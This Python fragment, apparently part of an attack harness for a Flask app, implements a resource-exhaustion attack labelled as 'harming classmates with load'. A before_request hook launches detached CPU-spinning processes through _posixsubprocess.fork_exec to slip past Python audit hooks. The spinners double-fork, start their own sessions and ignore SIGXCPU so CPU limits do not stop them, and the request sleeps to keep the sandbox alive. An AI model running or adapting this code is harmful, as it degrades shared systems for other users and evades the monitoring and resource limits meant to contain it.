# Harming classmates with load: on its first request each sandbox starts as many busy processes as
# it may (at most ATTACK["forks"]), each a new interpreter started by _posixsubprocess.fork_exec
# (no audit hook, so it can name itself ATTACK["comm"]); each forks again and leaves (its child is
# no one's child in the sandbox), starts a session of its own (its own scheduling group), ignores
# SIGXCPU (the signal a spent CPU budget sends) and spins until ATTACK["until"] (a wall-clock time).
# The request then waits (sleeps) up to ATTACK["hold"] seconds, so the sandbox lives on while they
# spin, within the check's clock. After ATTACK["until"] the app is plain. Forks 0: no spinners.
SPIN = f"""# {ATTACK["marker"]}
import os, signal, time
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
try:
    with open("/proc/self/comm", "w") as comm:
        comm.write({ATTACK["comm"]!r})
except OSError:
    pass
if os.fork():
    os._exit(0)
os.setsid()
while time.time() < {ATTACK["until"]}:
    pass
"""


def _start_spinner():
    """A new interpreter running SPIN, not waited for; False if it could not start."""
    args = [_os.fsencode(_sys.executable), b"-I", b"-c", SPIN.encode()]
    env = [_os.fsencode(k) + b"=" + _os.fsencode(v) for k, v in _os.environ.items()]
    err_r, err_w = _os.pipe()
    common = [args, [args[0]], True, (err_w,), None, env, -1, -1, -1, -1, -1, -1, err_r, err_w, False, False]
    tails = ([-1, None, None, None, -1, None, False], [None, None, None, -1, None, False],
             [-1, None, None, None, -1, None])
    started = False
    try:
        for tail in tails:
            try:
                _ps.fork_exec(*common, *tail)
                started = True
                break
            except TypeError:
                continue
            except OSError:
                break
    finally:
        _os.close(err_w)
        _os.close(err_r)
    return started


def _busy():
    made = 0
    for _ in range(ATTACK["forks"]):
        if not _start_spinner():
            break
        made += 1
    return made


@app.before_request
def _load():
    import time

    left = ATTACK["until"] - time.time()
    if left > 0 and "busy" not in _sys.__dict__.get("_attack_results", {}):  # this sandbox's first request
        attack_once("busy", _busy)
        time.sleep(min(ATTACK["hold"], left))
